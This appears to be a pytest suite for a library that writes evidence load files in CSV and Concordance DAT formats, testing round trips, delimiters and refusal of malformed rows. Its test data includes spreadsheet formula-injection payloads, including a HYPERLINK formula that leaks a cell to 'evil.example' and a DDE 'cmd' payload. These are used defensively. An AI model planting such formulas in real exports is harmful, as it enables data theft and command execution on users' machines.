"""evidence.csv and evidence.dat: exact round trips, hostile values, formula cells, delimiters."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sanad.bundle.errors import BundleError
from sanad.bundle.load_files import (
    FREE_TEXT_COLUMNS,
    LOAD_FILE_COLUMNS,
    MULTI_VALUE_COLUMNS,
    evidence_csv,
    evidence_dat,
)

BOM = b"\xef\xbb\xbf"
FFFD = "\ufffd"


def row(**values: object) -> dict[str, object]:
    base: dict[str, object] = {
        "DOCID": "SY-LAT-2025-001-E0007",
        "NATIVE_PATH": "data/evidence/SY-LAT-2025-001-E0007.jpg",
        "FILE_EXT": "jpg",
        "MEDIA_TYPE": "image/jpeg",
        "SIZE_BYTES": "183204",
        "SHA256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "MD5": "098f6bcd4621d373cade4e832627b4f6",
        "CAPTURED_AT": "2025-03-14T06:30:12+03:00",
        "UTC_OFFSET": "+03:00",
        "ACQUIRED_AT": "2025-03-15T09:00:00Z",
        "LATITUDE": "-33.5",
        "LONGITUDE": "36.2765",
        "INCIDENTS": ["I-001", "I-002"],
        "PERSONS": ["W-001"],
        "TAGS": ["قصف", 'say "hi", then go'],
    }
    base.update(values)
    return base


def parse_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(BOM)
    with io.TextIOWrapper(io.BytesIO(data), encoding="utf-8-sig", newline="") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        assert tuple(header) == LOAD_FILE_COLUMNS
        return [dict(zip(header, record, strict=True)) for record in reader]


def parse_dat(data: bytes) -> list[dict[str, str]]:
    """The load file as Concordance reads it: þ-qualified, ASCII 20 between fields, ® a newline."""
    assert data.startswith(BOM)
    text = data[len(BOM):].decode("utf-8")
    assert text.endswith("\r\n")
    records = []
    for record in text[:-2].split("\r\n"):
        assert record.startswith("\u00fe") and record.endswith("\u00fe"), record
        fields = record[1:-1].split("\u00fe\x14\u00fe")
        assert len(fields) == len(LOAD_FILE_COLUMNS)
        records.append([field.replace("\u00ae", "\n") for field in fields])
    assert tuple(records[0]) == LOAD_FILE_COLUMNS
    return [dict(zip(LOAD_FILE_COLUMNS, record, strict=True)) for record in records[1:]]


def unneutralised(cell: str) -> str:
    """The documented reader rule: a CSV cell starting with an apostrophe had one added."""
    return cell.removeprefix("'")


def expected(values: dict[str, object]) -> dict[str, str]:
    out = {}
    for column in LOAD_FILE_COLUMNS:
        value = values.get(column)
        out[column] = ";".join(value) if isinstance(value, list) else (value or "")  # type: ignore[arg-type]
    return out


# --- evidence.csv ------------------------------------------------------------------------------

def test_csv_round_trips_arabic_quotes_commas_newlines_and_empty_cells() -> None:
    rows = [
        row(),
        row(DOCID="SY-LAT-2025-001-E0008", PARENT_DOCID="SY-LAT-2025-001-E0007",
            HOW_OBTAINED="سلّمه شاهد، في دمشق\nبتاريخ ١٤ آذار", PLATFORM='Tele"gram", inc',
            DEVICE_MODEL="  iPhone 12  ", TAGS=[], PERSONS=None),
        {"DOCID": "SY-LAT-2025-001-E0009"},
    ]
    parsed = parse_csv(evidence_csv(rows))
    assert parsed == [expected(r) for r in rows]
    assert parsed[2]["SHA256"] == "" and parsed[1]["PERSONS"] == ""


def test_csv_is_bom_crlf_and_has_only_a_header_for_no_rows() -> None:
    data = evidence_csv([])
    assert data == BOM + ",".join(LOAD_FILE_COLUMNS).encode() + b"\r\n"
    data = evidence_csv([row(), row(DOCID="SY-LAT-2025-001-E0008")])
    assert data.startswith(BOM) and data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 3 and b"\n" not in data.replace(b"\r\n", b"")


def test_csv_quotes_a_line_break_inside_a_cell() -> None:
    data = evidence_csv([row(PLATFORM="a\r\nb")])
    assert b'"a\r\nb"' in data
    assert parse_csv(data)[0]["PLATFORM"] == "a\r\nb"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\x00"])
def test_csv_neutralises_a_formula_in_free_text(start: str) -> None:
    hostile = start + 'HYPERLINK("https://evil.example/?"&A1,"x")'
    cell = parse_csv(evidence_csv([row(DEVICE_MODEL=hostile)]))[0]["DEVICE_MODEL"]
    assert cell == "'" + hostile
    assert unneutralised(cell) == hostile


def test_csv_keeps_numbers_offsets_and_hashes_exact() -> None:
    parsed = parse_csv(evidence_csv([row(PLATFORM="-12.5e3", DEVICE_MODEL="+7", HOW_OBTAINED="-05:30")]))[0]
    assert parsed["LATITUDE"] == "-33.5" and parsed["UTC_OFFSET"] == "+03:00"
    assert parsed["PLATFORM"] == "-12.5e3" and parsed["DEVICE_MODEL"] == "+7"
    assert parsed["HOW_OBTAINED"] == "-05:30"
    assert parsed["SHA256"] == row()["SHA256"] and parsed["MD5"] == row()["MD5"]


def test_csv_apostrophe_rule_is_reversible() -> None:
    values = ["'already quoted", "''", "'=1+1", "plain", "-", "+", "=", "-1+2", "- 3"]
    rows = [row(DOCID=f"E{i}", PLATFORM=value) for i, value in enumerate(values)]
    cells = [record["PLATFORM"] for record in parse_csv(evidence_csv(rows))]
    assert [unneutralised(cell) for cell in cells] == values
    assert cells[3] == "plain" and cells[5] == "'+"


@pytest.mark.parametrize("column", ["SHA256", "DOCID", "NATIVE_PATH", "LATITUDE", "SOURCE_CODE"])
@pytest.mark.parametrize("value", ["=cmd|' /C calc'!A0", "-1+cmd", "@SUM(A1)", "'x"])
def test_csv_refuses_a_formula_in_an_exact_column(column: str, value: str) -> None:
    with pytest.raises(BundleError, match=f"column {column}: starts with U\\+") as caught:
        evidence_csv([row(**{column: value})])
    assert value not in str(caught.value) and "\n" not in str(caught.value)


# --- the two files agree, multi-value cells and typing -----------------------------------------

def test_csv_and_dat_hold_the_same_values() -> None:
    rows = [row(HOW_OBTAINED="line one\nline two", DEVICE_MODEL="=1"), row(DOCID="X-1", TAGS=["a"])]
    from_csv = [{k: unneutralised(v) for k, v in r.items()} for r in parse_csv(evidence_csv(rows))]
    assert from_csv == parse_dat(evidence_dat(rows)) == [expected(r) for r in rows]


@pytest.mark.parametrize("writer", [evidence_csv, evidence_dat])
def test_a_separator_inside_a_tag_becomes_a_visible_replacement(writer) -> None:
    data = writer([row(TAGS=["a;b", "c"])])
    parse = parse_csv if writer is evidence_csv else parse_dat
    assert parse(data)[0]["TAGS"] == f"a{FFFD}b;c"


@pytest.mark.parametrize("writer", [evidence_csv, evidence_dat])
@pytest.mark.parametrize(("values", "cause"), [
    ({"PERSONS": ["W-001;W-002"]}, "column PERSONS: contains U\\+003B"),
    ({"INCIDENTS": ["I-001", ""]}, "column INCIDENTS: a value is empty"),
    ({"TAGS": ["ok", 7]}, "column TAGS: a value is int, not text"),
    ({"TAGS": "a;b"}, "column TAGS: must be a list of values, not str"),
    ({"PERSONS": {"W-001"}}, "column PERSONS: must be a list of values, not set"),
    ({"SIZE_BYTES": 183204}, "column SIZE_BYTES: must be text, not int"),
    ({"DEVICE_MODEL": ["a", "b"]}, "column DEVICE_MODEL: must be text, not list"),
    ({"NOTES": "x"}, "has unknown column 'NOTES'"),
    ({"docid": "x"}, "has unknown column 'docid'"),
])
def test_bad_rows_are_refused_naming_the_row_and_column(writer, values: dict, cause: str) -> None:
    with pytest.raises(ValueError, match=f"row 2 \\(SY-LAT-2025-001-E0007\\),? .*{cause}"):
        writer([row(DOCID="X-1"), row(**values)])


@pytest.mark.parametrize("writer", [evidence_csv, evidence_dat])
def test_a_row_that_is_not_a_mapping_is_refused(writer) -> None:
    with pytest.raises(BundleError, match="row 1 is a list"):
        writer([["SY-1"]])


@pytest.mark.parametrize("writer", [evidence_csv, evidence_dat])
def test_a_hostile_docid_is_not_echoed(writer) -> None:
    with pytest.raises(BundleError) as caught:
        writer([row(DOCID="W-001 Amina\r\nþ", NOTES="x")])
    assert str(caught.value) == f"{writer.__name__.replace('_', '.')}: row 1 has unknown column 'NOTES': " \
        "the columns are LOAD_FILE_COLUMNS"


@pytest.mark.parametrize("writer", [evidence_csv, evidence_dat])
def test_a_lone_surrogate_is_replaced_in_free_text_and_refused_elsewhere(writer) -> None:
    parse = parse_csv if writer is evidence_csv else parse_dat
    assert parse(writer([row(DEVICE_MODEL="cam\udcff", TAGS=["\ud800"])]))[0]["DEVICE_MODEL"] == f"cam{FFFD}"
    with pytest.raises(BundleError, match="column NATIVE_PATH: contains U\\+DCFF at position 6 \\(a lone"):
        writer([row(NATIVE_PATH="data/\udcff")])


# --- evidence.dat ------------------------------------------------------------------------------

def test_dat_uses_the_concordance_defaults_byte_for_byte() -> None:
    data = evidence_dat([{"DOCID": "E1", "HOW_OBTAINED": "a\r\nb\nc\rd", "TAGS": ["x", "y"]}])
    header, record, end = data[len(BOM):].split(b"\r\n")
    assert data.startswith(BOM) and end == b""
    assert header == "\x14".join(f"\u00fe{c}\u00fe" for c in LOAD_FILE_COLUMNS).encode()
    fields = record.decode().split("\x14")
    assert fields[0] == "\u00feE1\u00fe" and fields[1] == "\u00fe\u00fe"
    assert fields[LOAD_FILE_COLUMNS.index("HOW_OBTAINED")] == "\u00fea\u00aeb\u00aec\u00aed\u00fe"
    assert fields[LOAD_FILE_COLUMNS.index("TAGS")] == "\u00fex;y\u00fe"


def test_dat_round_trips_arabic_and_line_breaks() -> None:
    rows = [row(HOW_OBTAINED="سلّمه شاهد\nفي دمشق", PLATFORM='say "x", y'), {"DOCID": "E2"}]
    assert parse_dat(evidence_dat(rows)) == [expected(r) for r in rows]


@pytest.mark.parametrize("hostile", ["\u00fe", "\x14", "\u00ae", "\x00", "\u00fe\x14\u00fe"])
def test_dat_replaces_delimiters_in_free_text_and_keeps_the_record_whole(hostile: str) -> None:
    rows = [row(DEVICE_MODEL=f"Canon{hostile}EOS", SOURCE_URL=f"https://x.example/{hostile}"), row(DOCID="E2")]
    parsed = parse_dat(evidence_dat(rows))
    assert len(parsed) == 2 and parsed[1]["DOCID"] == "E2"
    assert parsed[0]["DEVICE_MODEL"] == "Canon" + FFFD * len(hostile) + "EOS"
    assert parsed[0]["SHA256"] == row()["SHA256"]


@pytest.mark.parametrize("column", sorted(set(LOAD_FILE_COLUMNS) - FREE_TEXT_COLUMNS - MULTI_VALUE_COLUMNS))
@pytest.mark.parametrize("hostile", ["\u00fe", "\x14", "\u00ae", "\x00", "\r\n", "\n"])
def test_dat_refuses_what_it_cannot_carry_in_an_exact_column(column: str, hostile: str) -> None:
    with pytest.raises(BundleError, match=f"evidence.dat: row 1.*, column {column}: contains U\\+") as caught:
        evidence_dat([row(**{column: f"v{hostile}v"})])
    assert "\n" not in str(caught.value) and "\u00fe" not in str(caught.value)


def test_dat_refuses_a_delimiter_inside_a_code() -> None:
    with pytest.raises(BundleError, match="column INCIDENTS: contains U\\+00FE at position 2"):
        evidence_dat([row(INCIDENTS=["I\u00fe001"])])


def test_dat_does_not_add_apostrophes() -> None:
    assert parse_dat(evidence_dat([row(DEVICE_MODEL="=1+1")]))[0]["DEVICE_MODEL"] == "=1+1"


# --- round trips over generated values ---------------------------------------------------------

_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
_ELEMENT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters=";"), min_size=1, max_size=10)
_DAT_SAFE = st.text(st.characters(blacklist_categories=("Cs",),
                                  blacklist_characters="\u00fe\x14\u00ae\x00\r"), max_size=30)


@settings(max_examples=40, deadline=None)
@given(free=st.fixed_dictionaries({c: _TEXT for c in sorted(FREE_TEXT_COLUMNS - MULTI_VALUE_COLUMNS)}),
       tags=st.lists(_ELEMENT, max_size=4))
def test_csv_round_trip_of_any_free_text(free: dict[str, str], tags: list[str]) -> None:
    values = row(TAGS=tags, **free)
    parsed = {k: unneutralised(v) for k, v in parse_csv(evidence_csv([values]))[0].items()}
    assert parsed == expected(values)


@settings(max_examples=40, deadline=None)
@given(free=st.fixed_dictionaries({c: _DAT_SAFE for c in sorted(FREE_TEXT_COLUMNS - MULTI_VALUE_COLUMNS)}))
def test_dat_round_trip_of_free_text_without_delimiters(free: dict[str, str]) -> None:
    values = row(**free)
    assert parse_dat(evidence_dat([values])) == [expected(values)]
